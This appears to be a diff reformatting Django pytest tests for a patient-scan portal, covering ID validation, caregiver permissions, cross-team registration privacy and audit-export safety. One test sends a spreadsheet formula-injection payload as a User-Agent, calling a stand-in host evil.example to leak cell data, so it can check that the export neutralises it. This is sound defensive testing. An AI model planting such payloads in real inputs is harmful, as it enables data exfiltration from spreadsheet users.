@@ -11,7 +11,6 @@ from rest_framework.test import APIClient
 
 from portal.ids import ID_MAX, parse_id
 from portal.models import AuditEvent, Patient
-from tests import factories
 
 pytestmark = pytest.mark.django_db
 
@@ -31,9 +30,17 @@ def test_the_api_answers_an_odd_patient_filter_with_a_400_not_a_500(api, people,
     assert api(people.alice).get("/api/v1/scans/", {"patient": value}).status_code == 400
 
 
-@pytest.mark.parametrize("path", [
-    "/scans/{}/", "/scans/patients/{}/", "/api/v1/scans/{}/", "/api/v1/patients/{}/", "/api/v1/patients/{}/timeline/",
-    "/api/v1/scans/{}/image/"])
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/scans/{}/",
+        "/scans/patients/{}/",
+        "/api/v1/scans/{}/",
+        "/api/v1/patients/{}/",
+        "/api/v1/patients/{}/timeline/",
+        "/api/v1/scans/{}/image/",
+    ],
+)
 def test_an_id_past_64_bits_in_a_path_is_not_found_not_a_server_error(client, people, path):
     client.force_login(people.alice)
     for value in (str(ID_MAX + 1), "9" * 40):
@@ -46,8 +53,9 @@ def test_a_row_id_is_ascii_digits_within_64_bits():
 
 
 def test_the_audit_export_neutralises_spreadsheet_formulas(client, django_user_model, people, api):
-    api(people.alice).get(f"/api/v1/patients/{people.patient.id}/",
-                          HTTP_USER_AGENT='=HYPERLINK("http://evil.example/?"&A1,"open")')
+    api(people.alice).get(
+        f"/api/v1/patients/{people.patient.id}/", HTTP_USER_AGENT='=HYPERLINK("http://evil.example/?"&A1,"open")'
+    )
     admin = django_user_model.objects.create_superuser("root", "root@example.org", "pw-for-admin-tests")
     client.force_login(admin)
     event = AuditEvent.objects.get(username="alice")
@@ -91,8 +99,9 @@ def test_a_clinician_cannot_attach_a_caregiver_to_a_new_patient(api, people):
     from portal.models import Caregiver
 
     dave = Caregiver.objects.get(user=people.dave)
-    response = api(people.alice).post("/api/v1/patients/", {"mrn": "MRN-NEW-1", "full_name": "New Patient",
-                                                            "caregivers": [dave.id]}, format="json")
+    response = api(people.alice).post(
+        "/api/v1/patients/", {"mrn": "MRN-NEW-1", "full_name": "New Patient", "caregivers": [dave.id]}, format="json"
+    )
     assert response.status_code == 403
     assert not Patient.objects.filter(mrn="MRN-NEW-1").exists()
 
@@ -101,9 +110,11 @@ def test_the_staff_desk_can_attach_a_caregiver(api, people):
     from portal.models import Caregiver
 
     dave = Caregiver.objects.get(user=people.dave)
-    response = api(people.triage).post("/api/v1/patients/", {"mrn": "MRN-NEW-2", "full_name": "New Patient",
-                                                             "care_team": people.team.id, "caregivers": [dave.id]},
-                                       format="json")
+    response = api(people.triage).post(
+        "/api/v1/patients/",
+        {"mrn": "MRN-NEW-2", "full_name": "New Patient", "care_team": people.team.id, "caregivers": [dave.id]},
+        format="json",
+    )
     assert response.status_code == 201
     assert list(Patient.objects.get(mrn="MRN-NEW-2").caregivers.all()) == [dave]
 
@@ -113,25 +124,31 @@ def test_registering_a_patient_does_not_tell_a_clinician_whether_another_team_kn
     known_elsewhere = people.other_patient.mrn  # Li Wei, in the other care team
     answers = []
     for mrn in (known_elsewhere, "MRN-NEVER-SEEN"):
-        response = api(people.alice).post("/api/v1/patients/", {"mrn": mrn, "full_name": "Walk-in Patient"},
-                                          format="json")
+        response = api(people.alice).post(
+            "/api/v1/patients/", {"mrn": mrn, "full_name": "Walk-in Patient"}, format="json"
+        )
         answers.append((response.status_code, sorted(response.json())))
-    assert answers[0] == answers[1] == (201, ["care_team", "caregivers", "created_at", "date_of_birth", "full_name",
-                                              "id", "mrn"])
+    assert (
+        answers[0]
+        == answers[1]
+        == (201, ["care_team", "caregivers", "created_at", "date_of_birth", "full_name", "id", "mrn"])
+    )
     # Alice's team has a record of its own; the other team's record is untouched and still unseen by her.
     assert Patient.objects.filter(mrn=known_elsewhere).count() == 2
     assert Patient.objects.get(id=people.other_patient.id).full_name == "Li Wei"
     assert api(people.alice).get(f"/api/v1/patients/{people.other_patient.id}/").status_code == 404
     # Naming the other team outright is refused the same way whatever the MRN.
     for mrn in (known_elsewhere, "MRN-NEVER-SEEN-2"):
-        response = api(people.alice).post("/api/v1/patients/", {"mrn": mrn, "full_name": "X",
-                                                                "care_team": people.other_team.id}, format="json")
+        response = api(people.alice).post(
+            "/api/v1/patients/", {"mrn": mrn, "full_name": "X", "care_team": people.other_team.id}, format="json"
+        )
         assert response.status_code == 403
 
 
 def test_a_second_registration_in_the_same_team_is_refused_as_a_duplicate(api, people):
-    response = api(people.alice).post("/api/v1/patients/", {"mrn": people.patient.mrn, "full_name": "Again"},
-                                      format="json")
+    response = api(people.alice).post(
+        "/api/v1/patients/", {"mrn": people.patient.mrn, "full_name": "Again"}, format="json"
+    )
     assert response.status_code == 400
     assert "already registered in this care team" in response.json()["mrn"][0]
 
